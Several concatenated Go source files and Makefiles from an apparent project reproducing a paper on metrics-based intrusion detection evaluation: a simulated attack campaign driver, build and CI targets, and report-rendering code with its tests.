	// paper singles out for high-trust clusters.
	camp := attack.NewCampaign(tb.AttackContext())
	now := tb.Sim.Now()
	if err := camp.LaunchAt(now+2*time.Second, attack.Insider{}); err != nil {
		log.Fatal(err)
	}
	if err := camp.LaunchAt(now+8*time.Second, attack.Masquerade{}); err != nil {
		log.Fatal(err)
	}
	tb.Sim.RunUntil(now + 20*time.Second)
	for _, g := range gens {
		g.Stop()
	}
	tb.Drain()
	tb.IDS.Flush()

	fmt.Printf("\nmonitor recorded %d incidents; severe (>= 0.7):\n", len(tb.IDS.Monitor().Incidents))
	for _, inc := range tb.IDS.Monitor().Incidents {
		if inc.Severity >= 0.7 {
			fmt.Printf("  %s\n", inc)
		}
	}

	// Compromise scope on the full-trust cluster: one compromised node
	// endangers everything that trusts it.
	names := make([]string, len(tb.Top.Cluster))
	for i, h := range tb.Top.Cluster {
		names[i] = h.Name()
	}
	trust := rts.FullTrustCluster(names)
	for _, inc := range camp.Incidents() {
		if inc.Technique != attack.TechInsider {
			continue
		}
		for _, h := range tb.Top.Cluster {
			if h.Addr() == inc.Attacker {
				scope := trust.CompromiseScope(h.Name())
				fmt.Printf("\ncompromise of %s exposes %d hosts via trust: %v\n", h.Name(), len(scope), scope)
			}
		}
	}

	// The price of that visibility: C2 auditing on real-time hosts.
	fmt.Println("\nreal-time cost of C2-level audit logging:")
	for i, rh := range tb.RTSHosts() {
		agent := tb.Agents()[i]
		fmt.Printf("  %s: %.1f%% CPU to auditing, %d deadline misses in %d jobs (agent saw %d events)\n",
			rh.Name(), rh.Overhead()*100, rh.DeadlineMisses, rh.JobsCompleted, agent.EventsSeen)
	}
	nominal := hostmon.OverheadFraction(hostmon.LogNominal, 800)
	c2 := hostmon.OverheadFraction(hostmon.LogC2, 800)
	fmt.Printf("\n(model calibration at 800 events/s: nominal logging %.1f%%, C2 %.1f%% — the paper's 3-5%% and ~20%%)\n",
		nominal*100, c2*100)
}
