// Package repro reproduces "A Metrics-Based Approach to Intrusion
// Detection System Evaluation for Distributed Real-Time Systems" (Fink,
// Chappell, Turner, O'Donoghue — WPDRTS/IPDPS 2002) as a working system:
// the metric scorecard methodology in internal/core and
// internal/requirements, the evaluation testbed (deterministic network
// simulator, protocol-aware traffic generation, labeled attack library,
// trace record/replay) in the remaining internal packages, four simulated
// IDS products in internal/products, and the measurement harness in
// internal/eval.
//
// The root-level bench_test.go regenerates every table and figure of the
// paper; see DESIGN.md for the experiment index and EXPERIMENTS.md for
// paper-versus-measured notes.
package repro
