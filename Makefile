# Convenience targets for the IDS evaluation reproduction.

GO ?= go

.PHONY: all build test race bench eval sweep traces clean

all: build test

build:
	$(GO) build ./...
	$(GO) vet ./...

test:
	$(GO) test ./...

race:
	$(GO) test -race ./...

# Regenerate every table and figure of the paper.
bench:
	$(GO) test -bench=. -benchmem ./...

# The paper's full prototype evaluation (all four products, both postures).
eval:
	$(GO) run ./cmd/idseval -posture realtime
	$(GO) run ./cmd/idseval -posture distributed

# Figure-4 sweeps for the two interesting products.
sweep:
	$(GO) run ./cmd/eersweep -product TrueSecure -points 6
	$(GO) run ./cmd/eersweep -product NetRecorder -points 6

# Canned-trace workflow (Lesson 2).
traces:
	$(GO) run ./cmd/trafficgen -o /tmp/eval.idtr -seconds 60 -pps 600
	$(GO) run ./cmd/replay -trace /tmp/eval.idtr -product TrueSecure

clean:
	$(GO) clean ./...
	rm -f test_output.txt bench_output.txt
