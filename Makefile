# Convenience targets for the IDS evaluation reproduction.

GO ?= go

.PHONY: all build test race bench benchhot benchgate benchtrace benchobs benchsim benchserve ci eval sweep traces faultscenarios faultgolden campaign-smoke live-smoke chaossmoke crashmatrix tracereport clean

all: build test race

build:
	$(GO) build ./...
	$(GO) vet ./...

test:
	$(GO) test ./...

race:
	$(GO) test -race ./...

# The full gate a change must pass before merging: clean build, vet,
# the whole suite under the race detector (the parallel evaluation
# pipeline makes -race part of correctness, not an optional extra), the
# trace-decoder fuzz seeds as plain regression tests, the telemetry
# invariants — concurrent registry use under -race and the determinism
# guard (telemetry on == telemetry off, byte for byte) — plus the fault
# harness's two contracts: an empty scenario perturbs nothing
# (NoFaultDeterminism) and the shipped scenarios reproduce their golden
# degradation curves byte for byte (faultscenarios) — and the campaign
# runner's crash-safety contracts: resume is byte-identical, panics are
# isolated and journaled, cancellation drains cleanly, and the stall
# watchdog fires (all under -race), finishing with an end-to-end
# interrupt/resume smoke of the campaign binary itself plus the live
# observability smoke (cmd/livesmoke): campaign run -listen, /metrics
# and /progress scraped mid-run, graceful SIGINT, clean resume — and
# the daemon chaos smoke (cmd/chaossmoke): idsevald SIGKILLed
# mid-stream, restarted, resumed from the durable ack point, scorecard
# byte-identical to an uninterrupted run — and the storage-fault matrix
# (crashmatrix): every commit point in fsio, the campaign runner, and
# idsevald crossed with every single-fault schedule a hostile disk can
# produce, recovery verified after each one. The
# batched-scan differential fuzz seeds run as regression tests alongside
# the trace decoder's, and benchgate holds signature-scan throughput
# within 15% of the committed BENCH_hotpath.json baseline, sharded-
# kernel events/sec within 15% of BENCH_sim.json, and the telemetry
# disabled path within the BENCH_obs.json ns/op bound at exactly zero
# allocations. The shard coordinator's
# barrier protocol runs explicitly under -race: every Sharded* test
# (worker-pool windows, cross-domain links, the at-scale determinism
# pins) with parallel executors exercising the mailbox handoff.
ci:
	$(GO) build ./...
	$(GO) vet ./...
	$(GO) test -race ./...
	$(GO) test -run Fuzz ./internal/trace/ ./internal/detect/
	$(GO) test -race -run 'ConcurrentRegistryUse|DisabledPathAllocFree' ./internal/obs/
	$(GO) test -race -run 'TelemetryDeterminism|ReplayStdout|NoFaultDeterminism|FaultSweepReproducible' ./internal/eval/
	$(GO) test -race -run 'CrashResume|ResumeAfterJournaledPanic|Cancellation|Watchdog|ReplayJournal' ./internal/campaign/
	$(GO) test -race -count=1 -run 'Sharded|Fabric|CrossLink|Lookahead|LargeTopology' ./internal/simtime/ ./internal/netsim/ ./internal/eval/ ./internal/report/
	$(MAKE) faultscenarios
	$(MAKE) campaign-smoke
	$(MAKE) live-smoke
	$(MAKE) chaossmoke
	$(MAKE) crashmatrix
	$(MAKE) benchgate

# Regenerate every table and figure of the paper.
bench:
	$(GO) test -bench=. -benchmem ./...

# Hot-path microbenchmarks with allocation counts, captured as JSON so
# successive runs can be diffed (benchcmp-style) across commits. The
# committed BENCH_hotpath.json doubles as the benchgate baseline.
HOTBENCH := SignatureInspect|AhoCorasick|NaiveScan4K|MatcherConstruct|ScanBatch|ScanSetInto|HTTPRequest|HTTPResponse|SyslogMessage|BulkChunk|FrameDialogue

benchhot:
	$(GO) test -run=NONE -bench='$(HOTBENCH)' \
		-benchmem -count=1 -json ./internal/detect/ ./internal/traffic/ > BENCH_hotpath.json
	@grep -o '"Output":"Benchmark[^"]*' BENCH_hotpath.json | sed 's/"Output":"//;s/\\t/\t/g;s/\\n//' || true
	@echo "wrote BENCH_hotpath.json"

# Throughput regression gate: rerun the benchhot and benchsim suites
# into scratch files and fail if any gated benchmark (MB/s for the scan
# hot path, events/sec for the sharded kernel) dropped more than 15%
# against the committed baselines. On hosts with >= 4 CPUs the sim gate
# additionally enforces the 4-shard/1-shard scaling floor; single-core
# hosts report the ratio and skip. Regenerate baselines with `make
# benchhot` / `make benchsim` (and commit them) after an intentional
# perf change.
benchgate:
	$(GO) test -run=NONE -bench='$(HOTBENCH)' \
		-benchmem -count=1 -json ./internal/detect/ ./internal/traffic/ > /tmp/BENCH_hotpath.current.json
	$(GO) run ./cmd/benchgate -baseline BENCH_hotpath.json \
		-current /tmp/BENCH_hotpath.current.json -max-drop-pct 15
	$(GO) test -run=NONE -bench='$(SIMBENCH)' \
		-benchmem -count=1 -json ./internal/eval/ > /tmp/BENCH_sim.current.json
	$(GO) run ./cmd/benchgate -baseline BENCH_sim.json \
		-current /tmp/BENCH_sim.current.json -max-drop-pct 15 \
		-speedup-num BenchmarkShardedScaleShards4 \
		-speedup-den BenchmarkShardedScaleShards1 -min-speedup 2.5
	$(GO) test -run=NONE -bench='$(OBSBENCH)' \
		-benchmem -count=1 -json ./internal/obs/ > /tmp/BENCH_obs.current.json
	$(GO) run ./cmd/benchgate -baseline BENCH_obs.json \
		-current /tmp/BENCH_obs.current.json \
		-gate-ns Disabled -max-ns-grow-pct 100 -ns-slack-ns 2 \
		-require-zero-allocs Disabled
	$(GO) test -run=NONE -bench='$(SERVEBENCH)' \
		-benchmem -count=1 -json ./internal/serve/ > /tmp/BENCH_serve.current.json
	$(GO) run ./cmd/benchgate -baseline BENCH_serve.json \
		-current /tmp/BENCH_serve.current.json \
		-gate-allocs ServeIngest -max-allocs-grow-pct 10

# Sharded-kernel throughput benchmarks: the >= 10k-host LargeConfig run
# at 1, 2, 4, and 8 executor goroutines, captured as JSON. The committed
# BENCH_sim.json doubles as the benchgate baseline; a trailing note
# records the measuring host's CPU count, because parallel speedup is
# physically bounded by cores (benchgate arms its scaling floor only on
# >= 4-CPU hosts).
SIMBENCH := ShardedScaleShards

benchsim:
	$(GO) test -run=NONE -bench='$(SIMBENCH)' \
		-benchmem -count=1 -json ./internal/eval/ > BENCH_sim.json
	@echo '{"Action":"output","Package":"benchsim-host","Output":"# host-cpus: '"$$(nproc)"'"}' >> BENCH_sim.json
	@grep -o '"Output":"Benchmark[^"]*' BENCH_sim.json | sed 's/"Output":"//;s/\\t/\t/g;s/\\n//' || true
	@echo "wrote BENCH_sim.json (host cpus: $$(nproc))"

# Trace codec benchmarks (IDT2 encode/decode throughput, allocation
# counts, and the replay live-heap comparison), captured as JSON so
# successive runs can be diffed across commits.
benchtrace:
	$(GO) test -run=NONE -bench='StreamEncode|StreamDecode|StreamDecodePipelined|ReplayLiveHeap|BinaryWrite|BinaryRead' \
		-benchmem -count=1 -json ./internal/trace/ > BENCH_trace.json
	@grep -o '"Output":"Benchmark[^"]*' BENCH_trace.json | sed 's/"Output":"//;s/\\t/\t/g;s/\\n//' || true
	@echo "wrote BENCH_trace.json"

# Telemetry-overhead benchmarks: the disabled (nil-instrument) path must
# stay at a few ns/op with zero allocations — the contract that lets
# instrumentation live permanently in simulation hot paths. The
# committed BENCH_obs.json doubles as the benchgate baseline: the
# *Disabled benchmarks gate on ns/op growth (with absolute slack, since
# the path is sub-nanosecond) and must report exactly 0 allocs/op.
OBSBENCH := CounterInc|GaugeUpdate|HistogramObserve|Span|Snapshot|Flight

benchobs:
	$(GO) test -run=NONE -bench='$(OBSBENCH)' \
		-benchmem -count=1 -json ./internal/obs/ > BENCH_obs.json
	@grep -o '"Output":"Benchmark[^"]*' BENCH_obs.json | sed 's/"Output":"//;s/\\t/\t/g;s/\\n//' || true
	@echo "wrote BENCH_obs.json"

# Service ingest benchmark: chunk acceptance through the full durable
# path (spool append + fsync, ack journal append + fsync, ledger
# booking). The committed BENCH_serve.json doubles as the benchgate
# baseline. allocs/op is the gated dimension — the path sits at 2
# allocs per chunk, and the regression worth catching (an accidental
# copy or buffer per chunk) shows up there deterministically, while
# MB/s on a syscall-bound path swings severalfold with host IO and is
# reported but not gated.
SERVEBENCH := ServeIngest

benchserve:
	$(GO) test -run=NONE -bench='$(SERVEBENCH)' \
		-benchmem -count=1 -json ./internal/serve/ > BENCH_serve.json
	@grep -o '"Output":"Benchmark[^"]*' BENCH_serve.json | sed 's/"Output":"//;s/\\t/\t/g;s/\\n//' || true
	@echo "wrote BENCH_serve.json"

# The paper's full prototype evaluation (all four products, both postures).
eval:
	$(GO) run ./cmd/idseval -posture realtime
	$(GO) run ./cmd/idseval -posture distributed

# Figure-4 sweeps for the two interesting products.
sweep:
	$(GO) run ./cmd/eersweep -product TrueSecure -points 6
	$(GO) run ./cmd/eersweep -product NetRecorder -points 6

FAULT_SCENARIOS := span-degrade sensor-outage pipeline-outage
FAULTSWEEP_FLAGS := -quick -points 3 -seed 11

# Pin the shipped fault scenarios to golden degradation curves: for a
# fixed seed, scenario, and severity grid the sweep output is part of
# the determinism contract and must stay byte-identical.
faultscenarios:
	@for s in $(FAULT_SCENARIOS); do \
		echo "fault scenario $$s"; \
		$(GO) run ./cmd/faultsweep -scenario examples/faults/$$s.json $(FAULTSWEEP_FLAGS) \
			| diff -u examples/faults/golden/$$s.txt - || exit 1; \
	done

# Regenerate the golden curves after an intentional behaviour change.
faultgolden:
	@for s in $(FAULT_SCENARIOS); do \
		$(GO) run ./cmd/faultsweep -scenario examples/faults/$$s.json $(FAULTSWEEP_FLAGS) \
			> examples/faults/golden/$$s.txt; \
		echo "wrote examples/faults/golden/$$s.txt"; \
	done

CAMPAIGN_DIR := /tmp/repro-campaign-smoke

# End-to-end crash-safety smoke: plan a tiny campaign, stop it
# deterministically after one committed experiment (-max 1 stands in
# for a Ctrl-C at an arbitrary instant), resume, and require the
# resumed run to report every experiment committed.
campaign-smoke:
	rm -rf $(CAMPAIGN_DIR)
	$(GO) run ./cmd/campaign plan -dir $(CAMPAIGN_DIR) -quick -seed 11 \
		-products NetRecorder -sweep-points 2
	$(GO) run ./cmd/campaign run -dir $(CAMPAIGN_DIR) -max 1 > $(CAMPAIGN_DIR)/run.out
	grep -q '1/2 experiments committed' $(CAMPAIGN_DIR)/run.out
	$(GO) run ./cmd/campaign resume -dir $(CAMPAIGN_DIR) > $(CAMPAIGN_DIR)/resume.out
	grep -q '2/2 experiments complete' $(CAMPAIGN_DIR)/resume.out
	$(GO) run ./cmd/campaign status -dir $(CAMPAIGN_DIR)
	rm -rf $(CAMPAIGN_DIR)

LIVESMOKE_DIR := /tmp/repro-live-smoke

# Live observability-plane smoke: cmd/livesmoke plans a campaign, runs
# it with -listen 127.0.0.1:0, scrapes /healthz, /metrics, and
# /progress mid-run, interrupts with SIGINT, and requires a graceful
# exit plus a clean resume to full completion.
live-smoke:
	rm -rf $(LIVESMOKE_DIR)
	mkdir -p $(LIVESMOKE_DIR)
	$(GO) build -o $(LIVESMOKE_DIR)/campaign.bin ./cmd/campaign
	$(GO) run ./cmd/livesmoke -bin $(LIVESMOKE_DIR)/campaign.bin \
		-dir $(LIVESMOKE_DIR)/campaign.d
	rm -rf $(LIVESMOKE_DIR)

CHAOSSMOKE_DIR := /tmp/repro-chaos-smoke

# Crash-tolerance smoke for the evaluation daemon: cmd/chaossmoke
# generates a trace, takes a reference scorecard from an uninterrupted
# idsevald, then SIGKILLs a second daemon mid-stream, restarts it on
# the same directory, resumes the upload from the durable ack point,
# and requires the resumed scorecard byte-identical to the reference
# plus an exactly-balanced shed ledger at drain.
chaossmoke:
	rm -rf $(CHAOSSMOKE_DIR)
	mkdir -p $(CHAOSSMOKE_DIR)
	$(GO) build -o $(CHAOSSMOKE_DIR)/idsevald.bin ./cmd/idsevald
	$(GO) build -o $(CHAOSSMOKE_DIR)/trafficgen.bin ./cmd/trafficgen
	$(GO) run ./cmd/chaossmoke -bin $(CHAOSSMOKE_DIR)/idsevald.bin \
		-gen $(CHAOSSMOKE_DIR)/trafficgen.bin -dir $(CHAOSSMOKE_DIR)/chaos.d
	rm -rf $(CHAOSSMOKE_DIR)

# Storage-fault matrix: cmd/crashtorture probes each workload's exact
# filesystem-operation trace, then replays it once per (operation ×
# fault class) — ENOSPC, EIO, short writes, lying fsyncs, crash-stop,
# torn tails, crash around rename/remove — recovering on the real
# filesystem after every schedule and checking the durability
# invariants: byte-identical campaign resume, balanced idsevald
# ledger, resume point == durable ack prefix, no torn file at a final
# path. Entirely in-process; the whole matrix (~300 schedules) runs in
# a few seconds. DESIGN.md §16 documents the fault model.
crashmatrix:
	$(GO) run ./cmd/crashtorture

# Capture a flight-recorder timeline of the sharded at-scale run as
# Chrome trace_event JSON. Open trace_sharded.json in Perfetto
# (https://ui.perfetto.dev) to see per-domain window spans, barrier
# waits, and harness marks on the sim timeline.
tracereport:
	$(GO) run ./cmd/idseval -shards 4 -scale-segments 4 -scale-hosts 8 \
		-scale-duration 1s -product TrueSecure -trace-out trace_sharded.json
	@echo "wrote trace_sharded.json — open in https://ui.perfetto.dev"

# Canned-trace workflow (Lesson 2).
traces:
	$(GO) run ./cmd/trafficgen -o /tmp/eval.idtr -seconds 60 -pps 600
	$(GO) run ./cmd/replay -trace /tmp/eval.idtr -product TrueSecure

# BENCH_hotpath.json, BENCH_sim.json, and BENCH_obs.json are NOT
# cleaned: they are the committed benchgate baselines, regenerated
# deliberately via `make benchhot` / `make benchsim` / `make benchobs`.
clean:
	$(GO) clean ./...
	rm -f test_output.txt bench_output.txt BENCH_trace.json trace_sharded.json
