package report

import (
	"bytes"
	"strings"
	"testing"
	"time"

	"repro/internal/core"
	"repro/internal/eval"
	"repro/internal/ids"
	"repro/internal/packet"
)

func TestMetricTableRendersTable1(t *testing.T) {
	reg := core.StandardRegistry()
	var buf bytes.Buffer
	if err := MetricTable(&buf, reg, core.Logistical, false); err != nil {
		t.Fatal(err)
	}
	out := buf.String()
	for _, name := range []string{
		"Distributed Management", "Ease of Configuration", "Ease of Policy Maintenance",
		"License Management", "Outsourced Solution", "Platform Requirements",
	} {
		if !strings.Contains(out, name) {
			t.Fatalf("Table 1 missing %q:\n%s", name, out)
		}
	}
	// Untabled metrics are excluded without full.
	if strings.Contains(out, "Product Lifetime") {
		t.Fatal("untabled metric leaked into Table 1")
	}
	buf.Reset()
	if err := MetricTable(&buf, reg, core.Logistical, true); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(buf.String(), "Product Lifetime") {
		t.Fatal("full table missing untabled metric")
	}
}

func TestMetricTableRendersTables2And3(t *testing.T) {
	reg := core.StandardRegistry()
	var buf bytes.Buffer
	if err := MetricTable(&buf, reg, core.Architectural, false); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(buf.String(), "Scalable Load-balancing") {
		t.Fatal("Table 2 missing load-balancing metric")
	}
	buf.Reset()
	if err := MetricTable(&buf, reg, core.Performance, false); err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"Network Lethal Dose", "Timeliness", "Observed False Negative Ratio"} {
		if !strings.Contains(buf.String(), name) {
			t.Fatalf("Table 3 missing %q", name)
		}
	}
}

func miniCards(t *testing.T) (*core.Registry, []*core.Scorecard) {
	t.Helper()
	reg := core.StandardRegistry()
	mk := func(name string, base core.Score) *core.Scorecard {
		c := core.NewScorecard(reg, name, "1.0")
		for i, m := range reg.All() {
			s := core.Score((int(base) + i) % 5)
			if err := c.Set(core.Observation{MetricID: m.ID, Score: s}); err != nil {
				t.Fatal(err)
			}
		}
		return c
	}
	return reg, []*core.Scorecard{mk("Alpha", 0), mk("Beta", 2)}
}

func TestScoreMatrix(t *testing.T) {
	reg, cards := miniCards(t)
	var buf bytes.Buffer
	if err := ScoreMatrix(&buf, reg, core.Performance, cards, true); err != nil {
		t.Fatal(err)
	}
	out := buf.String()
	if !strings.Contains(out, "Alpha") || !strings.Contains(out, "Beta") {
		t.Fatal("product columns missing")
	}
	if !strings.Contains(out, "(unweighted sum)") {
		t.Fatal("sum row missing")
	}
}

func TestRanking(t *testing.T) {
	reg, cards := miniCards(t)
	ranked, err := core.Rank(cards, core.Uniform(reg))
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := Ranking(&buf, ranked); err != nil {
		t.Fatal(err)
	}
	out := buf.String()
	if !strings.Contains(out, "S1 (logistical)") || !strings.Contains(out, "Total") {
		t.Fatalf("ranking header wrong:\n%s", out)
	}
	// Best first: Beta has uniformly higher scores.
	if strings.Index(out, "Beta") > strings.Index(out, "Alpha") {
		t.Fatal("ranking not best-first")
	}
}

func sampleSweep() *eval.SweepResult {
	return &eval.SweepResult{
		Product: "X",
		Points: []eval.SweepPoint{
			{Sensitivity: 0, TypeI: 0.1, TypeII: 70},
			{Sensitivity: 0.5, TypeI: 1.5, TypeII: 20},
			{Sensitivity: 1, TypeI: 6, TypeII: 2},
		},
		EER: 0.9, EERError: 4, EERValid: true,
	}
}

func TestErrorCurves(t *testing.T) {
	var buf bytes.Buffer
	if err := ErrorCurves(&buf, sampleSweep()); err != nil {
		t.Fatal(err)
	}
	out := buf.String()
	if !strings.Contains(out, "Equal Error Rate: sensitivity 0.90") {
		t.Fatalf("EER missing:\n%s", out)
	}
	if !strings.Contains(out, "1=Type I") || !strings.Contains(out, "2=Type II") {
		t.Fatal("plot legend missing")
	}
	// The plot must contain both curve glyphs.
	if !strings.Contains(out, "1") || !strings.Contains(out, "2") {
		t.Fatal("curve glyphs missing")
	}
	// No-crossover case renders the alternative note.
	flat := &eval.SweepResult{Product: "Y", Points: []eval.SweepPoint{
		{Sensitivity: 0, TypeI: 1, TypeII: 50}, {Sensitivity: 1, TypeI: 2, TypeII: 40},
	}}
	buf.Reset()
	if err := ErrorCurves(&buf, flat); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(buf.String(), "No Type I / Type II crossover") {
		t.Fatal("no-crossover note missing")
	}
}

func TestSweepCSV(t *testing.T) {
	var buf bytes.Buffer
	if err := SweepCSV(&buf, sampleSweep()); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSpace(buf.String()), "\n")
	if len(lines) != 4 {
		t.Fatalf("%d CSV lines, want header + 3", len(lines))
	}
	if lines[0] != "sensitivity,type1_fp_pct,type2_fn_pct" {
		t.Fatalf("header = %q", lines[0])
	}
}

func TestAccuracySummary(t *testing.T) {
	r := &eval.AccuracyResult{
		Product: "X", Transactions: 100, ActualIncidents: 7, DetectedIncidents: 5,
		FalseAlarms: 2, FalsePositiveRatio: 0.02, FalseNegativeRatio: 0.02,
		MissRate: 2.0 / 7.0, DetectionRate: 5.0 / 7.0,
		MeanDetectionDelay: 300 * time.Millisecond,
		MaxDetectionDelay:  time.Second,
		ByTechnique:        map[string]bool{"portscan": true, "dns-tunnel": false},
	}
	var buf bytes.Buffer
	if err := AccuracySummary(&buf, r); err != nil {
		t.Fatal(err)
	}
	out := buf.String()
	if !strings.Contains(out, "|D-A|/|T|") || !strings.Contains(out, "|A-D|/|T|") {
		t.Fatal("Figure-3 ratio labels missing")
	}
	if !strings.Contains(out, "portscan") || !strings.Contains(out, "missed") {
		t.Fatal("technique rows missing")
	}
}

func TestWrap(t *testing.T) {
	lines := wrap("a bb ccc dddd", 5)
	for _, l := range lines {
		if len(l) > 5 && !strings.Contains(l, " ") {
			continue // single word longer than width is allowed
		}
		if len(l) > 5 {
			t.Fatalf("line %q exceeds width", l)
		}
	}
	if got := wrap("", 10); len(got) != 1 || got[0] != "" {
		t.Fatalf("wrap empty = %v", got)
	}
}

func TestIntentProfilesRender(t *testing.T) {
	profiles := []*ids.AttackerProfile{
		{
			Attacker: packet.IPv4(203, 0, 1, 1), Stage: ids.IntentExfiltration,
			Victims: 2, Incidents: 3,
			Intents: map[ids.Intent]int{ids.IntentReconnaissance: 1, ids.IntentExfiltration: 2},
		},
	}
	var buf bytes.Buffer
	if err := IntentProfiles(&buf, profiles); err != nil {
		t.Fatal(err)
	}
	out := buf.String()
	if !strings.Contains(out, "exfiltration") || !strings.Contains(out, "203.0.1.1") {
		t.Fatalf("intent table missing content:\n%s", out)
	}
	buf.Reset()
	if err := IntentProfiles(&buf, nil); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(buf.String(), "no attributed attackers") {
		t.Fatal("empty-profile message missing")
	}
}

func TestEvaluationReport(t *testing.T) {
	reg := core.StandardRegistry()
	spec := struct {
		Name, Version, Summary string
	}{"TestProd", "1.0", "test product"}
	_ = spec
	// Build a ProductEvaluation shell: EvaluationReport reads Spec + Card.
	pe := &eval.ProductEvaluation{}
	pe.Spec.Name = "TestProd"
	pe.Spec.Version = "1.0"
	pe.Spec.Summary = "a summary line"
	card := core.NewScorecard(reg, "TestProd", "1.0")
	for _, m := range reg.All() {
		if err := card.Set(core.Observation{MetricID: m.ID, Score: 3, Note: "evidence for " + m.ID}); err != nil {
			t.Fatal(err)
		}
	}
	pe.Card = card
	var buf bytes.Buffer
	if err := EvaluationReport(&buf, pe); err != nil {
		t.Fatal(err)
	}
	out := buf.String()
	if !strings.Contains(out, "TestProd 1.0") || !strings.Contains(out, "a summary line") {
		t.Fatal("header missing")
	}
	for _, want := range []string{"Logistical metric", "Architectural metric", "Performance metric",
		"Timeliness", "evidence for timeliness"} {
		if !strings.Contains(out, want) {
			t.Fatalf("report missing %q", want)
		}
	}
	// A partially-scored card renders dashes rather than failing.
	pe.Card = core.NewScorecard(reg, "TestProd", "1.0")
	buf.Reset()
	if err := EvaluationReport(&buf, pe); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(buf.String(), "-") {
		t.Fatal("unscored metrics not dashed")
	}
}
