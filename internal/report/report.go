// Package report renders evaluation artifacts as text: the paper's metric
// tables (Tables 1–3), scorecard comparison matrices, weighted rankings,
// the Figure-4 error-rate curves (as a data table and an ASCII plot), and
// CSV series for external plotting.
package report

import (
	"fmt"
	"io"
	"strings"

	"repro/internal/core"
	"repro/internal/eval"
	"repro/internal/ids"
)

// table is a minimal aligned-column text table builder.
type table struct {
	header []string
	rows   [][]string
}

func (t *table) addRow(cells ...string) { t.rows = append(t.rows, cells) }

func (t *table) render(w io.Writer) error {
	widths := make([]int, len(t.header))
	for i, h := range t.header {
		widths[i] = len(h)
	}
	for _, r := range t.rows {
		for i, c := range r {
			if i < len(widths) && len(c) > widths[i] {
				widths[i] = len(c)
			}
		}
	}
	line := func(cells []string) string {
		var b strings.Builder
		for i, c := range cells {
			if i > 0 {
				b.WriteString("  ")
			}
			fmt.Fprintf(&b, "%-*s", widths[i], c)
		}
		return strings.TrimRight(b.String(), " ")
	}
	if _, err := fmt.Fprintln(w, line(t.header)); err != nil {
		return err
	}
	var sep []string
	for _, width := range widths {
		sep = append(sep, strings.Repeat("-", width))
	}
	if _, err := fmt.Fprintln(w, line(sep)); err != nil {
		return err
	}
	for _, r := range t.rows {
		if _, err := fmt.Fprintln(w, line(r)); err != nil {
			return err
		}
	}
	return nil
}

// titleCase upper-cases the first letter (strings.Title is deprecated and
// overkill for single words).
func titleCase(s string) string {
	if s == "" {
		return s
	}
	return strings.ToUpper(s[:1]) + s[1:]
}

// wrap breaks s into lines of at most width characters on word
// boundaries.
func wrap(s string, width int) []string {
	words := strings.Fields(s)
	if len(words) == 0 {
		return []string{""}
	}
	var lines []string
	cur := words[0]
	for _, wd := range words[1:] {
		if len(cur)+1+len(wd) > width {
			lines = append(lines, cur)
			cur = wd
			continue
		}
		cur += " " + wd
	}
	return append(lines, cur)
}

// MetricTable renders the paper's Table for one class: metric name and
// definition, restricted to the tabled (real-time-relevant) subset unless
// full is set.
func MetricTable(w io.Writer, reg *core.Registry, class core.Class, full bool) error {
	if _, err := fmt.Fprintf(w, "%s metrics\n\n", titleCase(class.String())); err != nil {
		return err
	}
	t := &table{header: []string{"Metric", "Definition"}}
	for _, m := range reg.ByClass(class) {
		if !full && !m.InPaperTable {
			continue
		}
		lines := wrap(m.Description, 64)
		t.addRow(m.Name, lines[0])
		for _, l := range lines[1:] {
			t.addRow("", l)
		}
	}
	return t.render(w)
}

// ScoreMatrix renders the metric × product score matrix for one class,
// with each product's unweighted class sum.
func ScoreMatrix(w io.Writer, reg *core.Registry, class core.Class, cards []*core.Scorecard, tabledOnly bool) error {
	header := []string{"Metric"}
	for _, c := range cards {
		header = append(header, c.System)
	}
	t := &table{header: header}
	sums := make([]int, len(cards))
	for _, m := range reg.ByClass(class) {
		if tabledOnly && !m.InPaperTable {
			continue
		}
		row := []string{m.Name}
		for i, c := range cards {
			if o, ok := c.Get(m.ID); ok {
				row = append(row, fmt.Sprintf("%d", o.Score))
				sums[i] += int(o.Score)
			} else {
				row = append(row, "-")
			}
		}
		t.addRow(row...)
	}
	sumRow := []string{"(unweighted sum)"}
	for _, s := range sums {
		sumRow = append(sumRow, fmt.Sprintf("%d", s))
	}
	t.addRow(sumRow...)
	return t.render(w)
}

// Ranking renders the Figure-5 weighted evaluation: per-class S_j and
// total per product, best first.
func Ranking(w io.Writer, scores []core.WeightedScore) error {
	t := &table{header: []string{"Rank", "System", "S1 (logistical)", "S2 (architectural)", "S3 (performance)", "Total"}}
	for i, s := range scores {
		t.addRow(
			fmt.Sprintf("%d", i+1), s.System,
			fmt.Sprintf("%.1f", s.ByClass[core.Logistical]),
			fmt.Sprintf("%.1f", s.ByClass[core.Architectural]),
			fmt.Sprintf("%.1f", s.ByClass[core.Performance]),
			fmt.Sprintf("%.1f", s.Total),
		)
	}
	return t.render(w)
}

// AccuracySummary renders one accuracy run.
func AccuracySummary(w io.Writer, r *eval.AccuracyResult) error {
	t := &table{header: []string{"Quantity", "Value"}}
	t.addRow("transactions |T|", fmt.Sprintf("%d", r.Transactions))
	t.addRow("actual intrusions |A|", fmt.Sprintf("%d", r.ActualIncidents))
	t.addRow("detected", fmt.Sprintf("%d", r.DetectedIncidents))
	t.addRow("false alarms |D-A|", fmt.Sprintf("%d", r.FalseAlarms))
	t.addRow("false positive ratio |D-A|/|T|", fmt.Sprintf("%.5f", r.FalsePositiveRatio))
	t.addRow("false negative ratio |A-D|/|T|", fmt.Sprintf("%.5f", r.FalseNegativeRatio))
	t.addRow("miss rate |A-D|/|A|", fmt.Sprintf("%.3f", r.MissRate))
	t.addRow("mean detection delay", r.MeanDetectionDelay.String())
	t.addRow("detection delay p50/p95/p99",
		fmt.Sprintf("%v / %v / %v", r.DelayP50, r.DelayP95, r.DelayP99))
	t.addRow("max detection delay", r.MaxDetectionDelay.String())
	for _, tech := range r.Techniques() {
		mark := "missed"
		if r.ByTechnique[tech] {
			mark = "detected"
		}
		t.addRow("  "+tech, mark)
	}
	return t.render(w)
}

// ErrorCurves renders the Figure-4 data: Type I and Type II error
// percentages per sensitivity, the EER, and an ASCII plot.
func ErrorCurves(w io.Writer, s *eval.SweepResult) error {
	t := &table{header: []string{"Sensitivity", "Type I (FP) %", "Type II (FN) %"}}
